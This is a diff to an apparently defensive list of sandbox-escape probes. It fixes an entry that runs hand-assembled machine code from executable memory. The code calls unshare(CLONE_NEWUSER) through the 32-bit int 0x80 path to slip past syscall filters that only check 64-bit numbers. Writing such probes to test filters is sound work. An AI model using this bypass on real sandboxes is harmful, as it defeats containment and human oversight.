@@ -327,17 +327,12 @@ ATTACKS = [
         "old-calls",
         "a call that is refused, by its 32-bit number: filters forget those",
         """
+        # push rbx / mov eax, 310 (unshare) / mov ebx, CLONE_NEWUSER / int 0x80 / pop rbx / ret
         code = mmap.mmap(-1, 4096, prot=7)
-        # push rbx
-        mov eax, 310 (unshare)
-        mov ebx, CLONE_NEWUSER
-        int 0x80
-        pop rbx
-        ret
         code.write(bytes.fromhex('53 b836010000 bb00000010 cd80 5b c3'))
         address = ctypes.addressof(ctypes.c_char.from_buffer(code))
-        code = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
-        print(facts['won'] if code == 0 else code)
+        result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
+        print(facts['won'] if result == 0 else result)
         """,
         ("user namespace", "system calls"),
     ),
